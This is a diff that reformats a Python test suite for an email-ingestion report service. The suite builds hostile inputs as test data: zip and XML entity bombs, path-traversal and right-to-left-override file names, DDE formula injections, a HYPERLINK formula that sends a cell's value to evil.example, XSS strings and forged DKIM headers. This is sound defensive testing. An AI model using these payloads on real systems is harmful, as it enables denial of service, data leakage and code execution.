@@ -5,6 +5,7 @@ time and memory, is archived byte for byte, and the service goes on: the next po
 the day's export and the digest all work. On SQLite and on PostgreSQL (which refuses
 NUL in text: one such field once stopped every poll behind it).
 """
+
 from __future__ import annotations
 
 import base64
@@ -58,11 +59,25 @@ class Setup:
         self.env = {"TEST_IMAP_PW": mailbox.password}
         self.cfg_path = write_config(
             tmp / "config.toml",
-            imap={"host": "127.0.0.1", "port": mailbox.port, "security": "none", "username": mailbox.user,
-                  "password_env": "TEST_IMAP_PW", "folder": "INBOX", "processed_folder": PROCESSED},
-            smtp={"host": "127.0.0.1", "port": 2525, "security": "none",
-                  "from_address": "baocao.ldtbxh@example.gov.vn"},
-            database_url=db_url, archive_dir=tmp / "archive", extra=extra)
+            imap={
+                "host": "127.0.0.1",
+                "port": mailbox.port,
+                "security": "none",
+                "username": mailbox.user,
+                "password_env": "TEST_IMAP_PW",
+                "folder": "INBOX",
+                "processed_folder": PROCESSED,
+            },
+            smtp={
+                "host": "127.0.0.1",
+                "port": 2525,
+                "security": "none",
+                "from_address": "baocao.ldtbxh@example.gov.vn",
+            },
+            database_url=db_url,
+            archive_dir=tmp / "archive",
+            extra=extra,
+        )
         if edit:
             self.cfg_path.write_text(edit(self.cfg_path.read_text("utf-8")), "utf-8")
         self.cfg = load_config(self.cfg_path, env=self.env)
@@ -106,20 +121,34 @@ BOOK = report_workbook({"Hỗ trợ hộ kinh doanh": {"Số đối tượng đ�
 def head(sender: str | bytes, subject: bytes = b"Bao cao", extra: bytes = b"", mid: bytes | None = None) -> bytes:
     sender = sender.encode() if isinstance(sender, str) else sender
     mid = mid if mid is not None else f"<{content_hash(subject + sender + extra)[:16]}@x>".encode()
-    return (b"From: " + sender + b"\r\nTo: baocao.ldtbxh@example.gov.vn\r\nSubject: " + subject +
-            b"\r\nMessage-ID: " + mid + b"\r\nDate: Wed, 11 Aug 2021 08:00:00 +0700\r\n" + extra)
+    return (
+        b"From: "
+        + sender
+        + b"\r\nTo: baocao.ldtbxh@example.gov.vn\r\nSubject: "
+        + subject
+        + b"\r\nMessage-ID: "
+        + mid
+        + b"\r\nDate: Wed, 11 Aug 2021 08:00:00 +0700\r\n"
+        + extra
+    )
 
 
 def with_parts(top: bytes, *parts: bytes) -> bytes:
-    out = [top, b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"HB\"\r\n\r\n"]
+    out = [top, b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="HB"\r\n\r\n']
     for p in parts:
         out += [b"--HB\r\n", p]
     return b"".join(out) + b"--HB--\r\n"
 
 
 def file_part(filename_param: bytes, data: bytes, ctype: str = XLSX) -> bytes:
-    return (b"Content-Type: " + ctype.encode() + b"\r\nContent-Disposition: attachment; " + filename_param +
-            b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data).replace(b"\n", b"\r\n"))
+    return (
+        b"Content-Type: "
+        + ctype.encode()
+        + b"\r\nContent-Disposition: attachment; "
+        + filename_param
+        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        + base64.encodebytes(data).replace(b"\n", b"\r\n")
+    )
 
 
 def named(name: str) -> bytes:
@@ -137,8 +166,10 @@ def zip_bomb_docx() -> bytes:
             bomb = zipfile.ZipInfo("word/document.xml")
             bomb.compress_type = zipfile.ZIP_DEFLATED
             with dst.open(bomb, "w", force_zip64=True) as fh:
-                fh.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
-                         b'wordprocessingml/2006/main"><w:body>')
+                fh.write(
+                    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
+                    b'wordprocessingml/2006/main"><w:body>'
+                )
                 for _ in range(300):
                     fh.write(b" " * (1 << 20))
                 fh.write(b"</w:body></w:document>")
@@ -146,10 +177,12 @@ def zip_bomb_docx() -> bytes:
 
 
 def entity_bomb_docx() -> bytes:
-    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10)]
-    doc = ('<?xml version="1.0"?><!DOCTYPE d [' + "".join(lol) + ']><w:document xmlns:w="http://schemas.'
-           'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
-           '</w:body></w:document>')
+    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
+    doc = (
+        '<?xml version="1.0"?><!DOCTYPE d [' + "".join(lol) + ']><w:document xmlns:w="http://schemas.'
+        'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
+        "</w:body></w:document>"
+    )
     return replace_part(docx_bytes([["Nội dung", "Số đề nghị"]]), "word/document.xml", doc.encode())
 
 
@@ -157,46 +190,92 @@ def nested(sender: str, depth: int) -> bytes:
     raw = head(sender, b"nested") + b"MIME-Version: 1.0\r\n"
     for i in range(depth):
         raw += b"Content-Type: multipart/mixed; boundary=N%d\r\n\r\n--N%d\r\n" % (i, i)
-    return raw + b"Content-Type: text/plain\r\n\r\nhi\r\n" + b"".join(b"--N%d--\r\n" % i for i in reversed(range(depth)))
+    return (
+        raw + b"Content-Type: text/plain\r\n\r\nhi\r\n" + b"".join(b"--N%d--\r\n" % i for i in reversed(range(depth)))
+    )
 
 
-HOSTILE_NAMES = ["../../../../etc/passwd", "..\\..\\boot.ini", "bc\x00.xlsx", "b\x07c\x1b[2J.xlsx",
-                 "bao-cao\u202exslx.exe", "Báo cáo " * 125 + ".xlsx"]
+HOSTILE_NAMES = [
+    "../../../../etc/passwd",
+    "..\\..\\boot.ini",
+    "bc\x00.xlsx",
+    "b\x07c\x1b[2J.xlsx",
+    "bao-cao\u202exslx.exe",
+    "Báo cáo " * 125 + ".xlsx",
+]
 
 
 @lru_cache(maxsize=1)
 def hostile_messages() -> list[tuple[str, bytes]]:
     """(quirk, raw): one quirk per message, each from a different unit unless the quirk is the sender."""
     return [
-        ("zip bomb xlsx", email_bytes(sender="bhxh.tp@example.gov.vn", attachments=[
-            ("bom.xlsx", XLSX, zip_bomb_xlsx(300 * 1024 * 1024))])),
-        ("entity bomb xlsx", email_bytes(sender="yte.tp@example.gov.vn", attachments=[
-            ("lol.xlsx", XLSX, entity_bomb_xlsx())])),
-        ("zip bomb docx", email_bytes(sender="vhtt.tp@example.gov.vn", attachments=[
-            ("bom.docx", DOCX, zip_bomb_docx())])),
-        ("entity bomb docx", email_bytes(sender="tckh.tp@example.gov.vn", attachments=[
-            ("lol.docx", DOCX, entity_bomb_docx())])),
-        ("1 MB subject", head("songcau@example.gov.vn", b"=?utf-8?b?w6E=?= " * 60_000) +
-         b"Content-Type: text/plain\r\n\r\nbody\r\n"),
-        ("header without colon", with_parts(
-            head("ducxuan@example.gov.vn", b"Ba\xcc\x81o ca\xcc\x81o", b"this line has no colon\r\n"),
-            file_part(b"filename=bc.xlsx", BOOK))),
-        ("NUL bytes", with_parts(head("ntmk@example.gov.vn", b"a\x00b", mid=b"<nul\x00id@x>"),
-                                 file_part(b"filename=bc.xlsx", BOOK))),
-        ("invalid encoded words, 8-bit name", with_parts(
-            head(b"\xe9t\xe9 <phungchikien@example.gov.vn>", b"=?bogus?b?AAAA?= =?utf-8?b?###?= =?utf-8?q?=FF?="),
-            file_part(b"filename=bc.xlsx", BOOK))),
+        (
+            "zip bomb xlsx",
+            email_bytes(
+                sender="bhxh.tp@example.gov.vn", attachments=[("bom.xlsx", XLSX, zip_bomb_xlsx(300 * 1024 * 1024))]
+            ),
+        ),
+        (
+            "entity bomb xlsx",
+            email_bytes(sender="yte.tp@example.gov.vn", attachments=[("lol.xlsx", XLSX, entity_bomb_xlsx())]),
+        ),
+        (
+            "zip bomb docx",
+            email_bytes(sender="vhtt.tp@example.gov.vn", attachments=[("bom.docx", DOCX, zip_bomb_docx())]),
+        ),
+        (
+            "entity bomb docx",
+            email_bytes(sender="tckh.tp@example.gov.vn", attachments=[("lol.docx", DOCX, entity_bomb_docx())]),
+        ),
+        (
+            "1 MB subject",
+            head("songcau@example.gov.vn", b"=?utf-8?b?w6E=?= " * 60_000) + b"Content-Type: text/plain\r\n\r\nbody\r\n",
+        ),
+        (
+            "header without colon",
+            with_parts(
+                head("ducxuan@example.gov.vn", b"Ba\xcc\x81o ca\xcc\x81o", b"this line has no colon\r\n"),
+                file_part(b"filename=bc.xlsx", BOOK),
+            ),
+        ),
+        (
+            "NUL bytes",
+            with_parts(
+                head("ntmk@example.gov.vn", b"a\x00b", mid=b"<nul\x00id@x>"), file_part(b"filename=bc.xlsx", BOOK)
+            ),
+        ),
+        (
+            "invalid encoded words, 8-bit name",
+            with_parts(
+                head(b"\xe9t\xe9 <phungchikien@example.gov.vn>", b"=?bogus?b?AAAA?= =?utf-8?b?###?= =?utf-8?q?=FF?="),
+                file_part(b"filename=bc.xlsx", BOOK),
+            ),
+        ),
         ("From without address", with_parts(head("Van thu phuong", b"x"), file_part(b"filename=bc.xlsx", BOOK))),
-        ("500 To addresses", with_parts(
-            head("huyentung@example.gov.vn", b"x", b"Cc: " + b", ".join(b"u%d@example.vn" % i for i in range(500))
-                 + b"\r\n"), file_part(b"filename=bc.xlsx", BOOK))),
-        ("hostile file names", with_parts(head("xuathoa@example.gov.vn", b"names"),
-                                          *[file_part(named(n), BOOK) for n in HOSTILE_NAMES])),
-        ("10,000 MIME parts", with_parts(head("duongquang@example.gov.vn", b"parts"),
-                                         *[file_part(b"filename=p%d.bin" % i, b"\0", "application/octet-stream")
-                                           for i in range(10_000)])),
+        (
+            "500 To addresses",
+            with_parts(
+                head(
+                    "huyentung@example.gov.vn",
+                    b"x",
+                    b"Cc: " + b", ".join(b"u%d@example.vn" % i for i in range(500)) + b"\r\n",
+                ),
+                file_part(b"filename=bc.xlsx", BOOK),
+            ),
+        ),
+        (
+            "hostile file names",
+            with_parts(head("xuathoa@example.gov.vn", b"names"), *[file_part(named(n), BOOK) for n in HOSTILE_NAMES]),
+        ),
+        (
+            "10,000 MIME parts",
+            with_parts(
+                head("duongquang@example.gov.vn", b"parts"),
+                *[file_part(b"filename=p%d.bin" % i, b"\0", "application/octet-stream") for i in range(10_000)],
+            ),
+        ),
         ("nested 1,000 deep", nested("nongthuong@example.gov.vn", 1000)),
-        ("cell of 1e30", simple_report(sender="pgd.nhcsxh@example.vn", de_nghi=10 ** 30)),
+        ("cell of 1e30", simple_report(sender="pgd.nhcsxh@example.vn", de_nghi=10**30)),
         ("figures in the wrong unit", simple_report(sender="ke.toan@thue.example.gov.vn")),
     ]
 
@@ -221,8 +300,10 @@ def test_hostile_messages_end_as_named_problems_and_the_service_goes_on(setup):
     def limit(quirk: str) -> set[str]:
         return {p.params.get("limit") for p in by_quirk[quirk].problems}
 
-    assert codes("zip bomb xlsx") == ["over_limit"] and limit("zip bomb xlsx") & {"decompressed_bytes",
-                                                                                  "compression_ratio"}
+    assert codes("zip bomb xlsx") == ["over_limit"] and limit("zip bomb xlsx") & {
+        "decompressed_bytes",
+        "compression_ratio",
+    }
     assert codes("entity bomb xlsx") == ["unsafe_file"]
     assert codes("zip bomb docx") == ["over_limit"]
     assert codes("entity bomb docx") == ["unsafe_file"]
@@ -294,14 +375,16 @@ def test_hostile_messages_end_as_named_problems_and_the_service_goes_on(setup):
 
 # -- a 50 MB attachment: named, archived, in bounded memory ----------------------------------
 
+
 def fifty_megabyte_xlsx() -> bytes:
     """A genuine .xlsx (sniffed as one) carrying 50 MB that does not compress."""
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(BOOK)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
         for info in src.infolist():
             dst.writestr(info, src.read(info))
-        dst.writestr(zipfile.ZipInfo("xl/media/image1.png"), os.urandom(50 * 1024 * 1024),
-                     compress_type=zipfile.ZIP_STORED)
+        dst.writestr(
+            zipfile.ZipInfo("xl/media/image1.png"), os.urandom(50 * 1024 * 1024), compress_type=zipfile.ZIP_STORED
+        )
     return out.getvalue()
 
 
@@ -339,8 +422,14 @@ def fifty_megabytes(setup: Setup) -> None:
     assert len(raw) > 68_000_000
     setup.mailbox.append(raw, at(9, 0))
     # A separate process, so its peak memory is this poll's alone.
-    done = subprocess.run([sys.executable, "-c", POLL_AND_MEASURE, str(setup.cfg_path)], cwd=ROOT,
-                          env={**os.environ, **setup.env}, capture_output=True, text=True, timeout=300)
+    done = subprocess.run(
+        [sys.executable, "-c", POLL_AND_MEASURE, str(setup.cfg_path)],
+        cwd=ROOT,
+        env={**os.environ, **setup.env},
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert done.returncode == 0, done.stderr[-3000:]
     result = json.loads(done.stdout.strip().splitlines()[-1])
     growth_mb = (result["peak_kib"] - result["before_kib"]) / 1024
@@ -360,8 +449,13 @@ def fifty_megabytes(setup: Setup) -> None:
 
 # -- HTML, scripts and formula injection ----------------------------------------------------
 
-INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
-              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+]
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 
 
@@ -425,15 +519,31 @@ def test_html_scripts_and_formulas_are_escaped_and_neutralised(mailbox, db_url, 
 
 def injections(setup: Setup) -> None:
     hostile_subject = INJECTIONS[2] + " " + SCRIPT
-    from_name = "=HYPERLINK(\"http://evil.example\",\"BHXH\") " + SCRIPT
-    setup.mailbox.append(encoded_from(email_bytes(
-        subject=hostile_subject, attachments=[(INJECTIONS[3] + ".xlsx", XLSX, injected_workbook())]),
-        from_name, "bhxh.tp@example.gov.vn"), at(9, 0))
-    setup.mailbox.append(encoded_from(email_bytes(
-        subject=hostile_subject, attachments=[(SCRIPT + ".pdf", "application/pdf", b"%PDF-1.4")]),
-        from_name, "la@evil.example"), at(9, 5))
-    setup.mailbox.append(email_bytes(sender="yte.tp@example.gov.vn", subject=INJECTIONS[4],
-                                     attachments=[("=1+1.pdf", "application/pdf", b"%PDF-1.4 scan")]), at(9, 10))
+    from_name = '=HYPERLINK("http://evil.example","BHXH") ' + SCRIPT
+    setup.mailbox.append(
+        encoded_from(
+            email_bytes(subject=hostile_subject, attachments=[(INJECTIONS[3] + ".xlsx", XLSX, injected_workbook())]),
+            from_name,
+            "bhxh.tp@example.gov.vn",
+        ),
+        at(9, 0),
+    )
+    setup.mailbox.append(
+        encoded_from(
+            email_bytes(subject=hostile_subject, attachments=[(SCRIPT + ".pdf", "application/pdf", b"%PDF-1.4")]),
+            from_name,
+            "la@evil.example",
+        ),
+        at(9, 5),
+    )
+    setup.mailbox.append(
+        email_bytes(
+            sender="yte.tp@example.gov.vn",
+            subject=INJECTIONS[4],
+            attachments=[("=1+1.pdf", "application/pdf", b"%PDF-1.4 scan")],
+        ),
+        at(9, 10),
+    )
     assert len(setup.poll().stored) == 3
     with setup.sessions() as session:
         view = build_day_view(session, setup.cfg, DAY)
@@ -472,8 +582,11 @@ SECURITY = f'\n[security]\nrequire_authentication = true\nauthserv_id = "{MX}"\n
 
 def authenticated(raw: bytes, *fields: str) -> bytes:
     """`raw` as the receiving server delivers it: its trace fields prepended."""
-    return "".join(f"Authentication-Results: {f}\r\n" for f in fields).encode() + \
-        f"Received: from sender.example by {MX}; Wed, 11 Aug 2021 09:00:00 +0700\r\n".encode() + raw
+    return (
+        "".join(f"Authentication-Results: {f}\r\n" for f in fields).encode()
+        + f"Received: from sender.example by {MX}; Wed, 11 Aug 2021 09:00:00 +0700\r\n".encode()
+        + raw
+    )
 
 
 def test_spoofed_from_is_unassigned_when_authentication_is_required(mailbox, db_url, tmp_path):
@@ -484,24 +597,56 @@ def test_spoofed_from_is_unassigned_when_authentication_is_required(mailbox, db_
 def spoofing(setup: Setup) -> None:
     cases = [
         # (raw, expected kind, unit, reason)
-        (authenticated(simple_report(de_nghi=41), f"{MX}; dkim=pass header.d=example.gov.vn header.s=k1; "
-                                                   "spf=pass smtp.mailfrom=bhxh.tp@example.gov.vn"),
-         "report", "BHXH", None),
-        (authenticated(simple_report(sender="yte.tp@example.gov.vn", de_nghi=42),
-                       f"{MX}; spf=pass smtp.mailfrom=bounces@mail.example.gov.vn"), "report", "YTE", None),
+        (
+            authenticated(
+                simple_report(de_nghi=41),
+                f"{MX}; dkim=pass header.d=example.gov.vn header.s=k1; spf=pass smtp.mailfrom=bhxh.tp@example.gov.vn",
+            ),
+            "report",
+            "BHXH",
+            None,
+        ),
+        (
+            authenticated(
+                simple_report(sender="yte.tp@example.gov.vn", de_nghi=42),
+                f"{MX}; spf=pass smtp.mailfrom=bounces@mail.example.gov.vn",
+            ),
+            "report",
+            "YTE",
+            None,
+        ),
         # a spoof: no word from the receiving server at all
         (simple_report(de_nghi=9001), "unassigned", None, "unverified_sender_no_results"),
         # a spoof that writes its own results, under another name
-        (authenticated(simple_report(de_nghi=9002), "gmail.com; dkim=pass header.d=example.gov.vn"),
-         "unassigned", None, "unverified_sender_no_results"),
+        (
+            authenticated(simple_report(de_nghi=9002), "gmail.com; dkim=pass header.d=example.gov.vn"),
+            "unassigned",
+            None,
+            "unverified_sender_no_results",
+        ),
         # a spoof that signs with its own domain
-        (authenticated(simple_report(de_nghi=9003), f"{MX}; dkim=pass header.d=evil.example; "
-                                                     "spf=pass smtp.mailfrom=x@evil.example"),
-         "unassigned", None, "unverified_sender"),
+        (
+            authenticated(
+                simple_report(de_nghi=9003),
+                f"{MX}; dkim=pass header.d=evil.example; spf=pass smtp.mailfrom=x@evil.example",
+            ),
+            "unassigned",
+            None,
+            "unverified_sender",
+        ),
         # a spoof that forges the server's name below the server's own (failing) field
-        (authenticated(b"Authentication-Results: " + MX.encode() + b"; dkim=pass header.d=example.gov.vn\r\n"
-                       + simple_report(de_nghi=9004), f"{MX}; dkim=fail header.d=example.gov.vn"),
-         "unassigned", None, "unverified_sender"),
+        (
+            authenticated(
+                b"Authentication-Results: "
+                + MX.encode()
+                + b"; dkim=pass header.d=example.gov.vn\r\n"
+                + simple_report(de_nghi=9004),
+                f"{MX}; dkim=fail header.d=example.gov.vn",
+            ),
+            "unassigned",
+            None,
+            "unverified_sender",
+        ),
     ]
     for i, (raw, *_rest) in enumerate(cases):
         setup.mailbox.append(raw, at(9, i))
